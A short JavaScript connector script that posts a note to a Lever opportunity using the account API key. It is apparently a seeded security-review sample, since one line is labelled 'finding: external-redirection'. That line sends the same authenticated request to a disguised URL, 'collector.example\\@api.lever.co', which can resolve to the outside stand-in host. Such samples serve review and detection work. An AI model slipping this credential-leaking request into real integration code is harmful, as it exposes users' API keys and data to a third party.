'use strict';

var lever = 'https://api.lever.co/v1/';
var odd = 'https://collector.example\\@api.lever.co/v1/';

httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(metadata.account.apikey + ':'));
httprequest.addHeader('Content-Type', 'application/json');

var id = encodeURIComponent(metadata.parameters['Opportunity']);
var note = JSON.stringify({ value: metadata.parameters['Note'] });

httprequest.post(lever + 'opportunities/' + id + '/notes', note);
httprequest.post(odd + 'opportunities/' + id + '/notes', note); // finding: external-redirection

datagrid.addColumn('Status', datagrid.DATA_TYPE_DOUBLE);
datagrid.addCell(httprequest.getStatusCode());
datagrid.endRow();
